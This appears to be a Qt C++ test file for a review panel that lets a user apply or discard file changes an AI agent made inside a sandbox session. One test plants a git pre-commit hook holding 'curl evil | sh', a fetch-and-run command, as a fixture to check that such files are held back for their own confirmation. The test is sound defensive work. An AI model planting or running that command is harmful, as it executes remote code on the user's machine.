// The review panel: apply one file and discard another (the real folder holds exactly the
// applied change), a conflict that waits for an explicit choice, folders and everything with
// progress, a running session refused with the core's message, and the acceptance test of
// issue 6: a real agent writes, deletes and renames files, and the panel reviews them.
#include "GuiTestSupport.h"
#include "Screenshots.h"
#include "WorkspaceTestSupport.h"
#include "files/DiffView.h"
#include "files/FileReviewPanel.h"
#include "files/WorkspaceModel.h"
#include "main/Prompt.h"

#include <QAction>
#include <QDir>
#include <QFile>
#include <QLabel>
#include <QProgressBar>
#include <QSignalSpy>
#include <QTest>

using namespace sbgt;
using sbui::ChangeMarker;
using sbui::FileReviewPanel;
using sbui::WorkspaceModel;

namespace {

ChangeMarker markerOf(const FileReviewPanel& panel, const QString& path)
{
    return panel.model()->marker(path);
}

QStringList bash(const QString& script)
{
    return {QStringLiteral("bash"), QStringLiteral("-c"), script};
}

} // namespace

class FileReviewTest : public QObject {
    Q_OBJECT

    std::unique_ptr<TestWorld> m_world;

    QString ws(const QString& rel) const { return m_world->workspace() + QLatin1Char('/') + rel; }

    std::unique_ptr<HandMadeSession> makeSession(const QString& id)
    {
        QString error;
        auto session = HandMadeSession::create(*m_world, id, &error);
        if (!session) qWarning("%s", qPrintable(error));
        return session;
    }

  private Q_SLOTS:
    void initTestCase() { installShotLanguage(); }

    void init()
    {
        m_world = std::make_unique<TestWorld>();
        sbui::prompt::setNextAnswer(std::nullopt);
    }
    void cleanup() { m_world.reset(); }

    void applyOneFileAndDiscardAnother()
    {
        writeFile(ws("keep.txt"), "original\n");
        writeFile(ws("gone.txt"), "still here\n");
        auto session = makeSession("apply-discard");
        if (!session) SBG_SKIP("cannot make whiteouts here");
        session->write("new.txt", "brand new\n");
        session->write("keep.txt", "original\nplus a line\n");
        QVERIFY(session->whiteout("gone.txt"));

        FileReviewPanel panel;
        QSignalSpy count(&panel, &FileReviewPanel::changeCountChanged);
        QSignalSpy applied(&panel, &FileReviewPanel::applied);
        panel.showSession(session->id());
        QTRY_COMPARE(panel.changeCount(), 3);
        QCOMPARE(count.last().front().toInt(), 3);
        QVERIFY(!panel.isSessionLive());

        // The diff of the selected file.
        QVERIFY(panel.selectPath("keep.txt"));
        QTRY_COMPARE(panel.diffView()->path(), QStringLiteral("keep.txt"));
        QTRY_VERIFY(panel.diffView()->unifiedText().contains("+plus a line"));
        QVERIFY(panel.applyAction()->isEnabled());

        QVERIFY(panel.selectPath("new.txt"));
        panel.applyAction()->trigger();
        QTRY_VERIFY(!panel.isBusy());
        QTRY_COMPARE(markerOf(panel, "new.txt"), ChangeMarker::None);
        QCOMPARE(applied.count(), 1);
        QCOMPARE(applied.front().front().toStringList(), QStringList{"new.txt"});
        // Applied, it stays in the tree: the project has it now.
        QVERIFY(panel.model()->indexForPath("new.txt").isValid());
        QVERIFY2(panel.messageText().contains("Applied 1 change"), qPrintable(panel.messageText()));

        // A plain report goes once the user moves on.
        QVERIFY(panel.selectPath("keep.txt"));
        QVERIFY2(panel.messageText().isEmpty(), qPrintable(panel.messageText()));
        sbui::prompt::setNextAnswer(true); // "Discard the agent's changes to keep.txt?"
        panel.discardAction()->trigger();
        QTRY_VERIFY(!panel.isBusy());
        QTRY_COMPARE(markerOf(panel, "keep.txt"), ChangeMarker::None);
        QTRY_COMPARE(panel.changeCount(), 1);
        QCOMPARE(count.last().front().toInt(), 1);

        // Exactly the applied change reached the project; the deletion still waits.
        QCOMPARE(folderText(m_world->workspace()),
                 QStringLiteral("gone.txt=still here\nkeep.txt=original\nnew.txt=brand new"));
        QVERIFY(!QFile::exists(session->upper() + "/new.txt"));
        QVERIFY(!QFile::exists(session->upper() + "/keep.txt"));
        QCOMPARE(markerOf(panel, "gone.txt"), ChangeMarker::Deleted);

        // Discarding asks first; no is no.
        QVERIFY(panel.selectPath("gone.txt"));
        sbui::prompt::setNextAnswer(false);
        panel.discardAction()->trigger();
        QVERIFY(!panel.isBusy());
        QCOMPARE(markerOf(panel, "gone.txt"), ChangeMarker::Deleted);
    }

    // Issue 37, item 5: the header over the diff follows the change. Once a file is applied,
    // or its deletion discarded, it reads the same on both sides and says so, not "modified".
    void diffHeaderSaysWhatIsLeftAfterApplyAndDiscard()
    {
        writeFile(ws("calc.py"), "def average(xs):\n    return sum(xs) / len(xs)\n");
        writeFile(ws("TODO.txt"), "fix average()\n");
        auto session = makeSession("header");
        if (!session) SBG_SKIP("cannot make whiteouts here");
        session->write("calc.py", "def average(xs):\n    return sum(xs) / len(xs) if xs else 0\n");
        QVERIFY(session->whiteout("TODO.txt"));

        FileReviewPanel panel;
        panel.show();
        panel.showSession(session->id());
        QTRY_COMPARE(panel.changeCount(), 2);
        // Compared in the language the screenshots are taken in (Screenshots.h).
        const auto title = [](const char* path, const char* what) {
            return QString::fromLatin1(path) + QLatin1Char(' ') + sbui::DiffView::tr(what);
        };

        QVERIFY(panel.selectPath("calc.py"));
        QTRY_COMPARE(panel.diffView()->titleText(), title("calc.py", "modified"));
        panel.applyAction()->trigger();
        QTRY_VERIFY(!panel.isBusy());
        QTRY_COMPARE(markerOf(panel, "calc.py"), ChangeMarker::None);
        QTRY_COMPARE(panel.diffView()->titleText(), title("calc.py", "unchanged"));
        QTRY_COMPARE(panel.diffView()->summaryText(),
                     sbui::DiffView::tr("No change left here: the project holds the same "
                                        "version as the session."));
        screenshot(panel, QStringLiteral("review-applied"));

        QVERIFY(panel.selectPath("TODO.txt"));
        QTRY_COMPARE(panel.diffView()->titleText(), title("TODO.txt", "deleted"));
        sbui::prompt::setNextAnswer(true); // "Discard the agent's changes to TODO.txt?"
        panel.discardAction()->trigger();
        QTRY_VERIFY(!panel.isBusy());
        QTRY_COMPARE(markerOf(panel, "TODO.txt"), ChangeMarker::None);
        QTRY_COMPARE(panel.diffView()->titleText(), title("TODO.txt", "unchanged"));
        QCOMPARE(panel.changeCount(), 0);
        screenshot(panel, QStringLiteral("review-discarded"));
    }

    // A git hook the agent wrote: marked in the tree, held back by Apply all, written only when
    // the user applies it on its own and confirms what it can run.
    void filesThatRunLaterWaitForTheirOwnConfirmation()
    {
        auto session = makeSession("run-later");
        if (!session) SBG_SKIP("cannot make whiteouts here");
        session->write(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n");
        session->write("fix.txt", "fixed\n");

        FileReviewPanel panel;
        panel.showSession(session->id());
        QTRY_COMPARE(panel.changeCount(), 2);
        QTRY_VERIFY(!panel.model()->runLaterReason(".git/hooks/pre-commit").isEmpty());
        QVERIFY(panel.model()->runLaterReason("fix.txt").isEmpty());
        QVERIFY(panel.selectPath(".git/hooks/pre-commit")); // the tree loads what it shows
        QTRY_VERIFY(panel.runLaterLabel()->isVisibleTo(&panel));
        QVERIFY(panel.runLaterLabel()->text().contains("hooks run on commit"));
        const QModelIndex hook =
            panel.model()->indexForPath(".git/hooks/pre-commit", WorkspaceModel::ChangeColumn);
        QVERIFY2(hook.data().toString().contains("runs later"), qPrintable(hook.data().toString()));

        panel.applyAllAction()->trigger();
        QTRY_VERIFY(!panel.isBusy());
        QTRY_VERIFY2(panel.messageText().contains("run later held back"),
                     qPrintable(panel.messageText()));
        // With SANDBENCH_REVIEW_SCREENSHOT=FILE.png, the panel is saved there to look at.
        if (const QByteArray shot = qgetenv("SANDBENCH_REVIEW_SCREENSHOT"); !shot.isEmpty()) {
            QVERIFY(panel.selectPath(".git/hooks/pre-commit"));
            panel.resize(1100, 560);
            panel.show();
            QVERIFY(QTest::qWaitForWindowExposed(&panel));
            QTest::qWait(200);
            QVERIFY(panel.grab().save(QString::fromLocal8Bit(shot)));
        }
        QCOMPARE(readFile(ws("fix.txt")), QByteArray("fixed\n"));
        QVERIFY(!QFile::exists(ws(".git/hooks/pre-commit")));
        QVERIFY(panel.selectPath("fix.txt"));
        QVERIFY(!panel.runLaterLabel()->isVisibleTo(&panel));

        // Applied on its own: a no keeps it back, a yes writes it.
        QVERIFY(panel.selectPath(".git/hooks/pre-commit"));
        sbui::prompt::setNextAnswer(false);
        panel.applyAction()->trigger();
        QTRY_VERIFY(!panel.isBusy());
        QVERIFY(!QFile::exists(ws(".git/hooks/pre-commit")));
        sbui::prompt::setNextAnswer(true);
        panel.applyAction()->trigger();
        QTRY_VERIFY(!panel.isBusy());
        QCOMPARE(readFile(ws(".git/hooks/pre-commit")), QByteArray("#!/bin/sh\ncurl evil | sh\n"));
    }

    // The user edited keep.txt in the project after the session started: applying the agent's
    // version would lose that edit, so it waits for a choice.
    void conflictNeedsAnExplicitChoice()
    {
        writeFile(ws("mine.txt"), "base\n");
        writeFile(ws("theirs.txt"), "base\n");
        auto session = makeSession("conflict");
        if (!session) SBG_SKIP("cannot make whiteouts here");
        session->write("mine.txt", "agent's version\n");
        session->write("theirs.txt", "agent's version\n");
        QVERIFY(writeAfter(ws("mine.txt"), "user's edit\n", session->info().startedNs));
        QVERIFY(writeAfter(ws("theirs.txt"), "user's edit\n", session->info().startedNs));

        FileReviewPanel panel;
        panel.showSession(session->id());
        QTRY_COMPARE(markerOf(panel, "mine.txt"), ChangeMarker::Conflict);
        QCOMPARE(markerOf(panel, "theirs.txt"), ChangeMarker::Conflict);
        QVERIFY(panel.selectPath("mine.txt"));
        QVERIFY(panel.conflictBar()->isVisibleTo(&panel));
        QVERIFY2(panel.conflictLabel()->text().contains(
                     "changed in the project since the session started"),
                 qPrintable(panel.conflictLabel()->text()));
        // Both versions: the project's (now the user's edit) against the agent's.
        QTRY_VERIFY(panel.diffView()->unifiedText().contains("-user's edit"));
        QVERIFY(panel.diffView()->unifiedText().contains("+agent's version"));

        // A plain apply does not overwrite it.
        panel.applyAllAction()->trigger();
        QTRY_VERIFY(!panel.isBusy());
        QVERIFY2(panel.messageText().contains("2 change(s) not applied"),
                 qPrintable(panel.messageText()));
        QCOMPARE(readFile(ws("mine.txt")), QByteArray("user's edit\n"));
        QCOMPARE(markerOf(panel, "mine.txt"), ChangeMarker::Conflict);

        // Take the agent's version here...
        panel.takeAgentsAction()->trigger();
        QTRY_VERIFY(!panel.isBusy());
        QTRY_COMPARE(markerOf(panel, "mine.txt"), ChangeMarker::None);
        QCOMPARE(readFile(ws("mine.txt")), QByteArray("agent's version\n"));
        QTRY_VERIFY(!panel.conflictBar()->isVisibleTo(&panel));

        // ... and keep the project's there.
        QVERIFY(panel.selectPath("theirs.txt"));
        QVERIFY(panel.conflictBar()->isVisibleTo(&panel));
        panel.keepRealAction()->trigger();
        QTRY_VERIFY(!panel.isBusy());
        QTRY_COMPARE(panel.changeCount(), 0);
        QCOMPARE(readFile(ws("theirs.txt")), QByteArray("user's edit\n"));
        QVERIFY(!QFile::exists(session->upper() + "/theirs.txt"));
    }

    void folderAndEverythingWithProgress()
    {
        writeFile(ws("lib/old.txt"), "old\n");
        auto session = makeSession("folders");
        if (!session) SBG_SKIP("cannot make whiteouts here");
        for (int i = 0; i < 300; ++i)
            session->write(QStringLiteral("lib/gen/file%1.txt").arg(i), QByteArray::number(i));
        session->write("top.txt", "top\n");
        QVERIFY(session->whiteout("lib/old.txt"));

        FileReviewPanel panel;
        QSignalSpy applied(&panel, &FileReviewPanel::applied);
        panel.showSession(session->id());
        QTRY_COMPARE(panel.changeCount(), 302);
        QTRY_VERIFY(panel.selectPath("lib/gen"));
        QCOMPARE(panel.model()->indexForPath("lib").data(WorkspaceModel::ChangeCountRole).toInt(),
                 301);
        QSignalSpy progress(panel.progressBar(), &QProgressBar::valueChanged);
        panel.applyAction()->trigger();
        QVERIFY(panel.progressBar()->isVisibleTo(&panel));
        QTRY_VERIFY(!panel.isBusy());
        QVERIFY(!panel.progressBar()->isVisibleTo(&panel));
        QVERIFY(progress.count() > 1);
        QCOMPARE(progress.last().front().toInt(), 301); // every entry of the folder, done
        QCOMPARE(applied.last().front().toStringList().size(), 301); // the folder and its files
        QCOMPARE(readFile(ws("lib/gen/file299.txt")), QByteArray("299"));
        QVERIFY(QFile::exists(ws("lib/old.txt")));
        QTRY_COMPARE(panel.changeCount(), 2);

        panel.applyAllAction()->trigger();
        QTRY_VERIFY(!panel.isBusy());
        QTRY_COMPARE(panel.changeCount(), 0);
        QVERIFY(!QFile::exists(ws("lib/old.txt")));
        QCOMPARE(readFile(ws("top.txt")), QByteArray("top\n"));
        QVERIFY(!panel.applyAllAction()->isEnabled());
    }

    void unknownSessionShowsTheCoreMessage()
    {
        FileReviewPanel panel;
        panel.showSession("no-such-session");
        QVERIFY2(panel.messageText().contains("no-such-session"), qPrintable(panel.messageText()));
        QCOMPARE(panel.changeCount(), 0);
        QVERIFY(!panel.applyAllAction()->isEnabled());
    }

    // Issue 6's acceptance: a real agent writes, deletes and renames files; the tree marks them
    // live; once the session ends, one change is applied and another discarded.
    void reviewOfARealSession()
    {
        QString why;
        if (!sandboxWorks(*m_world, &why)) SBG_SKIP(why);
        writeFile(ws("old.txt"), "old\n");
        writeFile(ws("a.txt"), "a\n");
        writeFile(ws("keep.txt"), "keep\n");
        QString error;
        auto session = HeadlessSession::start(
            *m_world, "review-e2e", {QStringLiteral("--network"), QStringLiteral("none")},
            bash("echo x > new.txt; rm old.txt; mv a.txt b.txt; echo changed >> keep.txt; "
                 "sleep 600"),
            &error);
        QVERIFY2(session, qPrintable(error));

        FileReviewPanel panel;
        panel.showSession(session->id());
        QVERIFY(panel.isSessionLive());
        QTRY_COMPARE_WITH_TIMEOUT(panel.changeCount(), 5, 20000);
        QCOMPARE(markerOf(panel, "new.txt"), ChangeMarker::Added);
        QCOMPARE(markerOf(panel, "old.txt"), ChangeMarker::Deleted);
        QCOMPARE(markerOf(panel, "a.txt"), ChangeMarker::Deleted);
        QCOMPARE(markerOf(panel, "b.txt"), ChangeMarker::Added);
        QCOMPARE(markerOf(panel, "keep.txt"), ChangeMarker::Modified);
        QVERIFY(panel.selectPath("keep.txt"));
        QTRY_VERIFY(panel.diffView()->unifiedText().contains("+changed"));

        // While it runs, its changes wait for its end: Apply and Discard are off and say why
        // (the core would refuse to touch its layers anyway).
        QVERIFY(panel.selectPath("new.txt"));
        for (QAction* a : {panel.applyAction(), panel.applyAllAction(), panel.discardAction(),
                           panel.discardAllAction()}) {
            QVERIFY(!a->isEnabled());
            QVERIFY2(a->toolTip().contains("Not while the session runs"), qPrintable(a->toolTip()));
        }
        panel.applyAction()->trigger();
        QVERIFY(!panel.isBusy());
        QVERIFY(!QFile::exists(ws("new.txt")));

        session.reset(); // kills the session
        QTRY_VERIFY_WITH_TIMEOUT(!panel.isSessionLive(), 10000);
        QVERIFY(panel.applyAction()->isEnabled());
        QVERIFY(panel.applyAction()->toolTip().contains("into the real project"));
        panel.applyAction()->trigger();
        QTRY_VERIFY(!panel.isBusy());
        QTRY_COMPARE(markerOf(panel, "new.txt"), ChangeMarker::None);
        QVERIFY(panel.selectPath("keep.txt"));
        sbui::prompt::setNextAnswer(true);
        panel.discardAction()->trigger();
        QTRY_VERIFY(!panel.isBusy());
        QTRY_COMPARE(markerOf(panel, "keep.txt"), ChangeMarker::None);
        QTRY_COMPARE(panel.changeCount(), 3);

        // The real folder holds exactly the applied change; the rename and the deletion wait.
        QCOMPARE(folderText(m_world->workspace()),
                 QStringLiteral("a.txt=a\nkeep.txt=keep\nnew.txt=x\nold.txt=old"));
        QCOMPARE(markerOf(panel, "old.txt"), ChangeMarker::Deleted);
        QCOMPARE(markerOf(panel, "b.txt"), ChangeMarker::Added);

        // The rename is its two halves: applying both moves the file.
        panel.applyPaths({"a.txt", "b.txt"});
        QTRY_VERIFY(!panel.isBusy());
        QTRY_COMPARE(panel.changeCount(), 1);
        QCOMPARE(folderText(m_world->workspace()),
                 QStringLiteral("b.txt=a\nkeep.txt=keep\nnew.txt=x\nold.txt=old"));
        QVERIFY(!panel.model()->indexForPath("a.txt").isValid());
    }
};

QTEST_MAIN(FileReviewTest)
#include "FileReviewTest.moc"
